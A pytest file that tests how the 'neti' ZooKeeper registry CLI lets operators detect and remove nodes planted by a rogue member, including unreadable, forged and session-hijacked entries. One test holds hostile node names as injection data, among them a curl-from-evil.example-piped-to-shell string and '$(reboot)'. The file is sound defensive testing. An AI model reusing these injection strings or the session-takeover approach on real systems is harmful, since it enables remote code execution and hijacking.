"""What a member can make to stand in an operator's way, and how the operator gets past it."""

import json
from ipaddress import IPv4Address, IPv4Network
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from kazoo.exceptions import NoAuthError, NotEmptyError
from kazoo.protocol.serialization import Create, Delete
from kazoo.security import ACL, Id, Permissions
from tests.support.recorder import Recorder
from tests.support.zookeeper import SecureWorld, files_of

from neti.cli import cli
from neti.errors import IdentityHeld, RegistryError
from neti.model import Member, entry
from neti.registry import Appeared, Session, SettingName
from neti.registry.leases import DamagedLease
from neti.registry.zookeeper import rights
from neti.registry.zookeeper.registry import ZooKeeperRegistry

pytestmark = pytest.mark.zookeeper

SUBNET = IPv4Network("192.168.0.0/24")
MINE = [ACL(Permissions.ALL, Id("auth", "")), ACL(Permissions.READ, Id("world", "anyone"))]
UNREAD = [ACL(Permissions.DELETE, Id("auth", ""))]
OPERATOR, SUPER = "operator-chief", "super-root"


@pytest.fixture
def rogue(secure: SecureWorld) -> ZooKeeperRegistry:
    return secure.open_as("host-c")


class Container(Create):  # type: ignore[misc]  # kazoo has no types
    type = 19


def make(
    registry: ZooKeeperRegistry,
    path: str,
    data: bytes = b"",
    *,
    acl: list[ACL] | None = None,
    ephemeral: bool = False,
) -> None:
    """A node below the tree's root, as no agent makes it."""
    may = MINE if acl is None else acl
    registry.inspect(
        lambda attempt, layout: attempt.one(
            Create(f"{layout.root}/{path}", data, may, int(ephemeral))
        )
    )


def nail(registry: ZooKeeperRegistry, path: str, data: bytes = b"") -> None:
    """With a node below it that only its maker may delete."""
    make(registry, path, data)
    make(registry, f"{path}/x")


def register(registry: ZooKeeperRegistry, host_id: str, number: int) -> str:
    one = Member(
        id=host_id,
        site="ec2",
        private=IPv4Address(f"10.0.0.{number}"),
        public=None,
        overlay=registry.acquire(host_id, SUBNET),
    )
    name = entry.encode(one)
    document = json.dumps({"name": f"{host_id}.example"}).encode()
    registry.register(host_id=host_id, name=name, data=b"", detail=document)
    return name


def run(secure: SecureWorld, folder: Path, *words: str, stem: str = OPERATOR) -> Result:
    files = files_of(stem)
    config = folder / "neti.yml"
    config.write_text(
        f'zk_hosts: {{ec2: ["{secure.server.hosts}"]}}\nzk_prefix: {secure.prefix}\nsite: ec2\n'
        "sites: {ec2: {private: [10.0.0.0/8]}}\nidentity: {id: x, private: 10.9.9.9}\n"
        f"table_files_path: {folder}\noverlay_subnet: {SUBNET}\n"
        f"registry_tls: {{ca: {files.ca}, cert: {files.cert}, key: {files.key}}}\n"
    )
    return CliRunner().invoke(cli, [*words, "-c", str(config)], catch_exceptions=False)


def findings(secure: SecureWorld, folder: Path, stem: str = OPERATOR) -> list[dict[str, Any]]:
    result = run(secure, folder, "registry", "check", "--json", stem=stem)
    found: list[dict[str, Any]] = json.loads(result.stdout)["findings"]
    return found


@pytest.mark.parametrize("setting", ["names", "groups", "revoked", "interval"])
def test_a_setting_that_no_agent_can_read_is_a_fault(
    secure: SecureWorld, tmp_path: Path, setting: SettingName
) -> None:
    """Whatever else is wrong with the tree, and though no look at the fleet needs it."""
    assert not [one for one in findings(secure, tmp_path) if one["code"] == "setting"]
    secure.open_as(OPERATOR).change_setting(setting, b"nonsense")
    (found,) = [one for one in findings(secure, tmp_path) if one["code"] == "setting"]
    assert found["severity"] == "fault"
    assert found["where"] == f"{secure.prefix}/{setting}"
    assert run(secure, tmp_path, "registry", "check").exit_code == 1


# --- names ---


def test_no_member_takes_the_name_of_another_or_hides_it(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
) -> None:
    """By its name as an id, by entries under its id, or by nodes that a command would read."""

    def join(registry: ZooKeeperRegistry, host_id: str, number: int, name: str) -> IPv4Address:
        one = Member(
            id=host_id,
            site="ec2",
            private=IPv4Address(f"10.0.0.{number}"),
            public=None,
            overlay=registry.acquire(host_id, SUBNET),
        )
        document = json.dumps({"name": name}).encode()
        registry.register(host_id=host_id, name=entry.encode(one), data=b"", detail=document)
        return one.overlay

    overlay = join(secure.open_as("host-a"), "i-0bbb", 1, "db-1")
    theirs = join(rogue, "db-1", 2, "db-1")
    for number in range(40):
        forged = Member(
            id="i-0bbb",
            site="ec2",
            private=IPv4Address(f"10.0.9.{number}"),
            public=None,
            overlay=IPv4Address("192.168.0.200"),
            generation=number,
        )
        make(rogue, f"ip-map/{entry.encode(forged)}", ephemeral=True)
        make(rogue, f"agents/junk-{number}", acl=UNREAD, ephemeral=True)
    hosts = run(secure, tmp_path, "hosts")
    assert hosts.stdout == f"{overlay}\tdb-1\n"
    said = f"db-1 is the name of i-0bbb ({overlay}); db-1 cannot be called so too"
    assert said in hosts.stderr
    assert "read" not in hosts.stderr  # nobody asked for the junk
    inventory = run(secure, tmp_path, "fleet", "--format", "ansible")
    assert said in inventory.stderr
    held = json.loads(inventory.stdout)["_meta"]["hostvars"]
    assert {name: one["ansible_host"] for name, one in held.items()} == {"db-1": str(overlay)}
    targets = json.loads(run(secure, tmp_path, "fleet", "--format", "prometheus").stdout)
    named = {one["labels"]["host"]: one["targets"] for one in targets}
    assert named == {"db-1": [str(overlay)], str(theirs): [str(theirs)]}


# --- nodes that nobody may read ---


@pytest.mark.parametrize("stem", [OPERATOR, "host-b"])
def test_nodes_that_nobody_may_read_are_left_out_and_named(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path, stem: str
) -> None:
    """One of each kind; whoever looks sees everybody else."""
    register(secure.open_as("host-a"), "a", 1)
    junk = entry.encode(
        Member(
            id="y",
            site="ec2",
            private=IPv4Address("10.0.0.9"),
            public=None,
            overlay=IPv4Address("192.168.0.9"),
            extended=True,
        )
    )
    for path in ("agents/x", "id-to-ip/x", "ip-to-id/192.168.0.9", f"ip-map/{junk}"):
        make(rogue, path, acl=UNREAD, ephemeral=True)
    for words in (("fleet",), ("hosts",), ("lookup", "a"), ("lease", "list"), ("fleet", "--json")):
        result = run(secure, tmp_path, *words, stem=stem)
        assert result.exit_code == 0, (words, result.output)
        assert "a.example" in result.stdout or "a" in result.stdout.split(), words
    assert f"{secure.prefix}/ip-to-id/192.168.0.9" in result.stderr
    assert "→ neti registry check" in result.stderr
    registry = secure.open_as(stem)
    assert [each.host_id for each in registry.details()] == ["a"]
    assert registry.data([junk]) == {}
    assert registry.lease_of("x") is None
    assert len(registry.unreadable()) == 3


def test_a_document_that_another_made_keeps_no_host_from_registering(
    secure: SecureWorld, rogue: ZooKeeperRegistry
) -> None:
    """The record is the lock. When the node is gone, the next description makes the host's own."""
    make(rogue, "agents/a", acl=UNREAD, ephemeral=True)
    host = secure.open_as("host-a")
    name = register(host, "a", 1)
    assert host.records()["a"].written == host.made([name])[name]
    host.describe("a", b"{}")
    assert host.details() == []
    rogue.close()
    host.describe("a", b"{}")
    assert [each.host_id for each in host.details()] == ["a"]


def test_a_record_that_nobody_may_read_is_another_certificates(
    secure: SecureWorld, rogue: ZooKeeperRegistry
) -> None:
    """First come, pinned: who was there first has the id, and operators give it up."""
    make(rogue, "hosts/a", acl=UNREAD)
    host = secure.open_as("host-a")
    with pytest.raises(IdentityHeld, match="belongs to another certificate"):
        register(host, "a", 1)
    secure.open_as(OPERATOR).release("a")
    assert register(host, "a", 1) in host.names()


# --- leases ---


def test_a_lease_moves_past_what_members_made_against_it(
    secure: SecureWorld, rogue: ZooKeeperRegistry
) -> None:
    """The word has another name where its own is nailed; a lease that gives operators no rights
    is made anew. Who listens hears both, NEW's agent too."""
    chief, recorder = secure.open_as(OPERATOR), Recorder()
    overlay = secure.open_as("host-a").acquire("a", SUBNET)
    former = overlay + 1
    make(rogue, "id-to-ip/b", str(former).encode())
    make(rogue, f"ip-to-id/{former}", b"b")
    nail(rogue, f"ip-map/{entry.encode_moved(overlay, 'b')}")
    secure.open_as("host-b").watch(recorder)
    recorder.until_fresh()
    assert chief.move("a", "b") == (overlay, former)
    assert chief.leases() == {overlay: "b"}
    recorder.until(lambda seen: len([e for e in seen.changes() if isinstance(e, Appeared)]) == 2)
    said = [entry.parse_moved(e.name) for e in recorder.changes() if isinstance(e, Appeared)]
    assert [word.overlay for word in said if word is not None] == [overlay, former]


def test_a_lease_is_released_past_a_nailed_word(
    secure: SecureWorld, rogue: ZooKeeperRegistry
) -> None:
    chief = secure.open_as(OPERATOR)
    overlay = secure.open_as("host-a").acquire("a", SUBNET)
    nail(rogue, f"ip-map/{entry.encode_moved(overlay, 'a')}")
    assert chief.release("a") == overlay
    assert chief.leases() == {}


def test_a_lease_that_nobody_may_read_can_be_released(
    secure: SecureWorld, rogue: ZooKeeperRegistry
) -> None:
    make(rogue, "id-to-ip/a", b"192.168.0.5", acl=UNREAD)
    assert isinstance(secure.open_as(OPERATOR).release("a"), DamagedLease)
    assert secure.open_as("host-a").acquire("a", SUBNET)


def test_what_stands_in_the_way_of_a_lease_is_named_with_what_to_do(
    secure: SecureWorld, rogue: ZooKeeperRegistry
) -> None:
    chief, prefix = secure.open_as(OPERATOR), secure.prefix
    nail(rogue, "id-to-ip/squat", b"192.168.0.8")
    make(rogue, "ip-to-id/192.168.0.8", b"squat")
    with pytest.raises(RegistryError) as refused:
        chief.release("squat")
    what, then = str(refused.value).splitlines()
    assert what.startswith(f"{prefix}/id-to-ip/squat has nodes below it")
    assert then == f"→ neti registry remove {prefix}/id-to-ip/squat"
    assert len(chief.leases()) == 1


def test_a_registration_of_no_session_keeps_no_operator_from_a_lease(
    secure: SecureWorld, rogue: ZooKeeperRegistry
) -> None:
    """No agent made it, and as long as it is there nobody registers."""
    chief, overlay = secure.open_as(OPERATOR), secure.open_as("host-a").acquire("a", SUBNET)
    nail(rogue, "agents/a")
    assert chief.move("a", "b") == (overlay, None)
    nail(rogue, "agents/b")
    assert chief.release("b") == overlay


def test_a_container_is_no_sessions_node(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
) -> None:
    """What it says where the session stands looks like one."""
    rogue.inspect(
        lambda attempt, layout: attempt.one(Container(f"{layout.root}/agents/a", b"", MINE, 4))
    )
    (told,) = [one for one in findings(secure, tmp_path) if one["code"] == "no-session"]
    assert told["where"] == f"{secure.prefix}/agents/a"
    host = secure.open_as("host-a")
    assert register(host, "a", 1) in host.names()


def test_no_spelling_of_an_address_but_our_own_is_that_address(
    secure: SecureWorld, rogue: ZooKeeperRegistry
) -> None:
    """Else it would make the address taken, or be taken for its lease."""
    tight = IPv4Network("192.168.9.0/30")
    for name in ("192.168.9.1 ", " 192.168.9.2"):
        make(rogue, f"ip-to-id/{name}", b"c")
    host = secure.open_as("host-a")
    assert host.acquire("a", tight) in tight
    assert secure.open_as("host-b").acquire("b", tight) in tight
    assert set(host.leases().values()) == {"a", "b"}


def test_an_operator_is_not_told_to_be_one(secure: SecureWorld, rogue: ZooKeeperRegistry) -> None:
    chief = secure.open_as(OPERATOR)
    make(secure.open_as(SUPER), "interval", b"1", acl=[*rights.READ_ONLY])
    with pytest.raises(RegistryError, match="CN=chief,OU=operators is an operator") as refused:
        chief.change_setting("interval", b"2")
    assert "neti registry check" in str(refused.value)


def test_only_the_super_user_deletes_what_is_nailed(
    secure: SecureWorld, rogue: ZooKeeperRegistry
) -> None:
    """ZooKeeper's own rule, by which all of this is."""
    nail(rogue, "agents/web-1")
    path = f"{secure.prefix}/agents/web-1"

    def delete(registry: ZooKeeperRegistry, what: str) -> Any:
        return registry.inspect(lambda attempt, _: attempt.each([Delete(what, -1)])[0])

    chief, root = secure.open_as(OPERATOR), secure.open_as(SUPER)
    assert isinstance(delete(chief, path), NotEmptyError)
    assert isinstance(delete(chief, f"{path}/x"), NoAuthError)
    assert delete(root, f"{path}/x") is True
    assert delete(chief, path) is True


# --- neti registry remove ---


def test_an_operator_removes_what_no_agent_made_and_hears_when_only_the_super_user_can(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
) -> None:
    root = f"{secure.prefix}/agents"
    make(rogue, "agents/x", acl=UNREAD)
    nail(rogue, "agents/web-1")
    make(rogue, "agents/web-1/x/deeper", acl=UNREAD)
    make(rogue, "agents/open", acl=list(rights.OPEN))
    make(rogue, "agents/open/x", acl=list(rights.OPEN))
    remove = ("registry", "remove", "--yes")
    result = run(secure, tmp_path, *remove, f"{root}/x", f"{root}/open", "--json")
    assert json.loads(result.stdout)["deleted"] == 3
    refused = run(secure, tmp_path, *remove, f"{root}/web-1")
    assert refused.exit_code == 1
    assert "nothing was deleted" in refused.stderr
    assert "only ZooKeeper's super user can" in refused.stderr
    assert f"{root}/web-1" in refused.stderr
    done = run(secure, tmp_path, *remove, f"{root}/web-1", stem=SUPER)
    assert "3 nodes deleted" in done.stdout
    assert secure.open_as(OPERATOR).details() == []
    register(secure.open_as("host-a"), "web-1", 1)


def test_what_is_made_below_a_hidden_node_is_the_super_users_too(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
) -> None:
    path = f"{secure.prefix}/agents/h"
    mine = [ACL(Permissions.CREATE | Permissions.DELETE, Id("auth", ""))]
    make(rogue, "agents/h", acl=mine)
    make(rogue, "agents/h/x", acl=mine)
    remove = ("registry", "remove", "--yes", path)
    assert "super user" in run(secure, tmp_path, *remove).stderr
    assert "2 nodes deleted" in run(secure, tmp_path, *remove, stem=SUPER).stdout


@pytest.mark.parametrize("kind", ["agents/a", "ip-map/{name}", "id-to-ip/a", "ip-to-id/{overlay}"])
def test_what_a_registered_host_made_stays_unless_forced(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path, kind: str
) -> None:
    host = secure.open_as("host-a")
    name = register(host, "a", 1)
    path = f"{secure.prefix}/" + kind.format(name=name, overlay=host.acquire("a", SUBNET))
    remove = ("registry", "remove", "--yes", path)
    refused = run(secure, tmp_path, *remove)
    assert refused.exit_code == 1
    assert "nothing was deleted" in refused.stderr
    assert "--force" in refused.stderr
    assert host.names() == {name}
    assert run(secure, tmp_path, *remove, "--force").exit_code == 0


def test_a_forged_entry_of_a_registered_host_goes_without_force(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
) -> None:
    """Whatever rights it shows: another session made it than the host's registration."""
    host = secure.open_as("host-a")
    name = register(host, "a", 1)
    forged = name.replace(".0.ec2.", ".zzzz.ec2.")
    acl = [
        ACL(Permissions.ALL, Id("x509", "CN=chief,OU=operators")),
        ACL(Permissions.READ, Id("x509", "CN=a,OU=hosts")),
        *rights.READ_ONLY,
    ]
    make(rogue, f"ip-map/{forged}", acl=acl, ephemeral=True)
    path = f"{secure.prefix}/ip-map/{forged}"
    assert run(secure, tmp_path, "registry", "remove", "--yes", path).exit_code == 0
    assert host.names() == {name}


@pytest.mark.parametrize("path", ["", "/agents", "/fleet", "/elsewhere/x", "-else/agents/x"])
def test_the_tree_itself_is_not_removed(secure: SecureWorld, tmp_path: Path, path: str) -> None:
    result = run(secure, tmp_path, "registry", "remove", "--yes", f"{secure.prefix}{path}")
    assert result.exit_code == 1
    assert "is not deleted by this command" in result.stderr


def test_a_member_removes_nothing(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
) -> None:
    make(rogue, "agents/x")
    path = f"{secure.prefix}/agents/x"
    result = run(secure, tmp_path, "registry", "remove", "--yes", path, stem="host-b")
    assert result.exit_code == 1
    assert "operators are CN=chief,OU=operators" in result.stderr


# --- neti registry check ---


def test_the_check_sees_past_what_is_in_its_way_and_names_it(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
) -> None:
    """Unread nodes, nailed ones, such without rights for operators: each with the command."""
    prefix = secure.prefix
    for path in ("agents/x", "id-to-ip/y", "ip-to-id/192.168.0.9"):
        make(rogue, path, acl=UNREAD, ephemeral=True)
    nail(rogue, "agents/web-1")
    make(rogue, "agents/shut", ephemeral=True)
    make(rogue, "ip-to-id/192.168.0.250", b"ghost", acl=[*rights.READ_ONLY])
    told = findings(secure, tmp_path)
    commands = {one["where"]: one["then"] for one in told if one["severity"] == "fault"}
    for path in (
        *("agents/x", "id-to-ip/y", "ip-to-id/192.168.0.9", "agents/web-1"),
        "ip-to-id/192.168.0.250",
    ):
        assert commands[f"{prefix}/{path}"] == f"neti registry remove {prefix}/{path}"
    (nailed,) = [one for one in told if one["code"] == "children"]
    assert "only ZooKeeper's super user can" in nailed["what"]
    (shut,) = [one for one in told if one["code"] == "no-rights"]
    assert shut["nodes"] == [f"{prefix}/agents/shut"]
    assert "registry" not in commands, "nothing ended the look"
    for command in (*commands.values(), shut["then"]):
        assert run(secure, tmp_path, *command.split()[1:], "--yes", stem=SUPER).exit_code == 0
    assert [one for one in findings(secure, tmp_path) if one["severity"] == "fault"] == []


def test_the_check_takes_no_name_for_another_and_no_honest_host_for_a_thief(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
) -> None:
    """Blanks around an address, quotes and blanks in an id: junk, and an honest lease stays."""
    host = secure.open_as("host-a")
    register(host, "a", 1)
    overlay = host.acquire("a", SUBNET)
    for name in (f"{overlay} ", f" {overlay}", f"{overlay}  ", f" {overlay} "):
        make(rogue, f"ip-to-id/{name}", b"i-0ccc", ephemeral=True)
    for name in ("x';curl evil.example|sh;'", "a ", "$(reboot)", "\u202eabc"):
        make(rogue, f"id-to-ip/{name}", b"192.168.4.4", ephemeral=True)
    make(rogue, "agents/--help", ephemeral=True)
    told = findings(secure, tmp_path)
    assert [one for one in told if one["severity"] == "fault"] == []
    junk = {one["where"]: one for one in told if one["code"] == "junk-names"}
    assert len(junk[f"{secure.prefix}/ip-to-id"]["nodes"]) == 4
    text = run(secure, tmp_path, "registry", "check").stdout
    for bad in (";curl", "$(", "\u202e", "lease release"):
        assert bad not in "".join(line for line in text.splitlines() if "→" in line)
    for one in junk.values():
        assert run(secure, tmp_path, *one["then"].split()[1:], "--yes").exit_code == 0
    assert host.leases() == {overlay: "a"}
    assert [one for one in findings(secure, tmp_path) if one["code"] == "junk-names"] == []


def test_a_name_too_long_to_print_is_removed_by_its_beginning(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
) -> None:
    make(rogue, f"agents/{'ä' * 500}")
    make(rogue, f"agents/{'ö' * 500}")
    make(rogue, f"agents/{'o' * 500}")
    told = findings(secure, tmp_path)
    (junk,) = [one for one in told if one["code"] == "junk-names"]
    words = junk["then"].replace("'", "").split()
    assert len(words) == 6
    assert run(secure, tmp_path, *words[1:], "--yes").exit_code == 0
    assert [one for one in findings(secure, tmp_path) if one["code"] == "junk-names"] == []


def test_init_is_not_ended_by_a_node_that_it_may_not_change(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path
) -> None:
    write = [ACL(Permissions.READ | Permissions.WRITE, Id("world", "anyone"))]
    make(rogue, "agents/hidden", acl=UNREAD)
    make(
        rogue, "agents/nobodys", acl=write
    )  # a document is deleted, which is a right on its parent
    make(rogue, "ip-map/stuck", acl=write)
    make(rogue, "ip-map/loose", acl=list(rights.OPEN))
    result = run(secure, tmp_path, "registry", "init")
    assert result.exit_code == 1
    assert "1 node could not be closed" in result.stderr
    assert rights_of(secure, "agents/nobodys") == []
    assert not rights.harmful(rights_of(secure, "ip-map/loose"))
    told = [one for one in findings(secure, tmp_path) if one["code"] == "open-nodes"]
    assert [one["nodes"] for one in told] == [[f"{secure.prefix}/ip-map/stuck"]]


def rights_of(secure: SecureWorld, path: str) -> list[Any]:
    whole = f"{secure.prefix}/{path}"
    return secure.open_as(OPERATOR).inspect(lambda attempt, _: attempt.acls([whole])[0])


# --- in a host's own session ---


def taken_up(secure: SecureWorld, host: ZooKeeperRegistry, name: str) -> ZooKeeperRegistry:
    """Another certificate in the host's session: ZooKeeper computes its password from its number,
    which each of its entries tells."""
    client = host._client
    assert client is not None
    assert name in host.names()
    return secure.open_as("host-c", Session(*client.session))


def test_a_document_that_another_made_in_the_hosts_session_does_not_keep_it_from_registering(
    secure: SecureWorld, rogue: ZooKeeperRegistry
) -> None:
    make(rogue, "agents/a", ephemeral=True)  # so that the host makes none
    host = secure.open_as("host-a")
    name = register(host, "a", 1)
    rogue.close()
    thief = taken_up(secure, host, name)
    make(thief, "agents/a", b"{}", ephemeral=True)
    thief.detach()
    another = register(host, "a", 2)
    assert host.records()["a"].written == host.made([another])[another]
    assert [each.host_id for each in host.details()] == ["a"]  # its own, in another session


def test_an_entry_that_another_made_in_the_hosts_session_is_named_and_deleted(
    secure: SecureWorld, tmp_path: Path
) -> None:
    host = secure.open_as("host-a")
    name = register(host, "a", 1)
    thief = taken_up(secure, host, name)
    forged = name.replace(".0.ec2.", ".z.ec2.")
    chief = Id("x509", "CN=chief,OU=operators")
    as_the_host = [ACL(Permissions.ALL, chief), ACL(1, Id("x509", "CN=a,OU=hosts"))]
    make(thief, f"ip-map/{forged}", acl=as_the_host, ephemeral=True)
    thief.detach()
    checked = run(secure, tmp_path, "registry", "check")
    assert f"ip-map/{forged}: is no entry of a" in checked.stdout
    removed = run(
        secure, tmp_path, "registry", "remove", "--yes", f"{secure.prefix}/ip-map/{forged}"
    )
    assert removed.exit_code == 0, removed.output
    assert host.names() == {name}


@pytest.mark.parametrize("as_its_own", [True, False])
def test_a_document_keeps_no_operator_from_the_lease_of_a_host_that_is_gone(
    secure: SecureWorld, rogue: ZooKeeperRegistry, tmp_path: Path, as_its_own: bool
) -> None:
    host = secure.open_as("host-a")
    register(host, "a", 1)
    host.close()
    chief = Id("x509", "CN=chief,OU=operators")
    own = [ACL(Permissions.ALL, chief), ACL(3, Id("x509", "CN=a,OU=hosts")), *rights.READ_ONLY]
    make(rogue, "agents/a", acl=own if as_its_own else list(rights.READ_ONLY), ephemeral=True)
    document = f"{secure.prefix}/agents/a"
    assert run(secure, tmp_path, "registry", "remove", "--yes", document).exit_code == 0
    make(rogue, "agents/a", acl=own if as_its_own else list(rights.READ_ONLY), ephemeral=True)
    secure.open_as(OPERATOR).release("a")
    assert rogue.leases() == {}
